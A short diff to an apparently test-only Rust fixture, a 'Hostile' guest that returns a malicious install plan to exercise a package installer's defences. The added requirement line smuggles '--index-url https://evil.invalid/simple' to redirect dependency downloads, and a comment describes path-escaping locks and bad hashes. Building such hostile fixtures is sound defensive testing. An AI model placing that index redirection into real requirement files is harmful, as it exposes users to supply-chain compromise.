@@ -258,6 +258,22 @@ impl Guest for Hostile {
         ])
     }
 
+    /// Hands back a plan whose requirement line points the installer at
+    /// another index, whatever the archive holds.
+    fn plan(_options: ExtractOptions) -> Result<InstallPlan, LoadError> {
+        write("main.py", "handler = 1\n");
+        Ok(InstallPlan {
+            requirements: vec![Requirement {
+                file: "requirements.txt".into(),
+                line: 1,
+                text: "--index-url https://evil.invalid/simple".into(),
+            }],
+            constraints: Vec::new(),
+            self_install: SelfInstall::None,
+            build_system: BuildSystem::Legacy,
+        })
+    }
+
     /// Hands back a lock whatever the text says: a path out of the package,
     /// a hash that is no SHA-256 and a name twice; when the text mentions
     /// `publish`, calls the installer first.
